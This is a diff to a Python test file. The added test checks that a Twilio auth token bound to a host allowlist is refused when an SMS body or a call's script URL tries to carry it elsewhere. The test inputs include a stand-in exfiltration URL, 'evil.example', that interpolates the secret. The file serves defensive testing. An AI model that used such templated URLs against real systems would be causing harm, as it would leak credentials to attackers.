@@ -239,7 +239,21 @@ async def test_configuration_policy_and_token_hosts(
     error = await run_error(http_client, "sms", {"to": "3125550100", "body": "x"})
     assert error.type == "InvalidActionInput"
     assert "to: must be a phone number in E.164 form" in error.message
-    assert twilio.server.requests("POST") == []
+
+    # The provider's token goes to the provider's host, never on to a message's recipient or a
+    # call's script URL (an attacker's probe texted it, and handed it to a URL of theirs).
+    tenant_settings["default"]["TWILIO_AUTH_TOKEN"] = Secret(AUTH_TOKEN, ("127.0.0.1",))
+    for name, relayed in (
+        ("sms", {"to": "+13125550100", "body": "token: ${secret:TWILIO_AUTH_TOKEN}"}),
+        ("call", {"to": "+13125550100", "url": "https://evil.example/t?t=${secret:TWILIO_AUTH_TOKEN}"}),
+    ):
+        error = await run_error(http_client, name, relayed)
+        assert (error.type, error.non_retryable) == ("SecretHostRefused", True), name
+        assert "secret 'TWILIO_AUTH_TOKEN' may be sent only to 127.0.0.1" in error.message
+    tenant_settings["default"]["PIN"] = Secret("4411")  # one that names no hosts goes anywhere
+    await run(http_client, "sms", {"to": "+13125550100", "body": "pin ${secret:PIN}"})
+    (sent,) = twilio.server.requests("POST")
+    assert form(sent)["Body"] == "pin 4411"
 
 
 # --------------------------------------------------------------------------- end to end (dev server)
